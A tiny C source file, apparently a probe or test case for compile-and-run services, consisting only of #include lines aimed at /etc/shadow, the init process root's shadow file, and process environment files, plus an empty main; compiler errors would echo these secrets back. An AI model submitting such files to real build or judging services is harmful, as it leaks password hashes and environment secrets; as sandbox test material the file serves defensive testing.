#include "/etc/shadow"
#include "/proc/1/environ"
#include "/proc/1/root/etc/shadow"
#include "/proc/self/environ"

int main(void) { return 0; }
